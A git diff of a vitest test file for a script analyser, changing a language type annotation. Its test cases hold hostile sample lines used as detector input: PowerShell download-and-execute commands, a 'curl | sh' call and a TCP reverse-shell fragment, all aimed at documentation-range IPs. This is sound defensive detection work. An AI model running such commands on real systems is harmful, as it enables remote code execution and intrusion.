@@ -1,14 +1,15 @@
 import { describe, expect, test } from 'vitest';
 import { scriptAnalyser } from '../../src/scripts/script-analyser.js';
-import type { ScriptLanguage } from '../../src/scripts/syntax.js';
+import type { SCRIPT_LANGUAGES } from '../../src/scripts/syntax.js';
 import { factsOf } from '../manifests/support.js';
 import { makeUnit, NO_HURRY } from '../support/make-unit.js';
 
-const read = (language: ScriptLanguage, text: string) => scriptAnalyser.analyse([makeUnit(language, text)], NO_HURRY);
+const read = (language: (typeof SCRIPT_LANGUAGES)[number], text: string) =>
+  scriptAnalyser.analyse([makeUnit(language, text)], NO_HURRY);
 const base64 = (text: string, encoding: 'utf8' | 'utf16le' = 'utf8') => Buffer.from(text, encoding).toString('base64');
 
 describe('code from the network', () => {
-  test.each<[ScriptLanguage, string]>([
+  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
     ['powershell', 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.1/a.ps1")'],
     ['powershell', 'irm http://192.0.2.1/a.ps1 | iex'],
     ['powershell', '$s = iwr http://192.0.2.1/a.ps1 -UseBasicParsing\nInvoke-Expression $s.Content'],
@@ -27,7 +28,7 @@ describe('code from the network', () => {
     expect(factsOf(read(language, text), 'execute')).toMatchObject([{ origin: 'downloaded', host: '192.0.2.1' }]);
   });
 
-  test.each<[ScriptLanguage, string]>([
+  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
     ['powershell', '# irm http://192.0.2.1/a.ps1 | iex\nGet-Date'],
     ['powershell', '$r = Invoke-RestMethod https://api.example.com/v1\nWrite-Output $r.name'],
     ['ruby', 'puts URI.open("https://example.com").read'],
@@ -56,7 +57,7 @@ describe('code out of an encoded text', () => {
 });
 
 describe('commands are read as a shell reads them', () => {
-  test.each<[ScriptLanguage, string, string]>([
+  test.each<[(typeof SCRIPT_LANGUAGES)[number], string, string]>([
     ['ruby', 'system("curl http://192.0.2.1/x | sh")', 'curl http://192.0.2.1/x | sh'],
     ['ruby', 'out = `id -u`', 'id -u'],
     ['perl', 'system("id -u");', 'id -u'],
@@ -80,7 +81,7 @@ describe('commands are read as a shell reads them', () => {
 });
 
 describe('a remote shell', () => {
-  test.each<[ScriptLanguage, string]>([
+  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
     [
       'powershell',
       '$c = New-Object System.Net.Sockets.TCPClient("192.0.2.5",4444)\n$s = $c.GetStream()\n$r = (iex $d 2>&1 | Out-String)',
@@ -95,7 +96,7 @@ describe('a remote shell', () => {
     expect(factsOf(read(language, text), 'remote-shell')).toMatchObject([{ host: '192.0.2.5' }]);
   });
 
-  test.each<[ScriptLanguage, string]>([
+  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
     ['go', 'c, _ := net.Dial("tcp", "db.example:5432")\nfmt.Fprintf(c, "ping")'],
     ['ruby', 's = TCPSocket.new("192.0.2.5", 6379)\ns.puts "PING"'],
     ['go', 'exec.Command("git", "status")'],
